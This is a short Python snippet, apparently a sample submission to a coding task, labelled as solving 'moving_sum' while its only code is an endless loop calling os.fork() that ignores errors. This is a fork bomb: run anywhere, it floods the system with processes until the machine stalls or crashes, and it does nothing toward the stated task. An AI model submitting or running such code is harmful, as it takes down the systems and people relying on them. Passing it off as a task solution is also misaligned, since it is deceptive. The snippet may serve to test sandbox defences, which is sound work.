# Tries: processes that make processes, each of them busy.
# Solves: moving_sum

# %% total
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
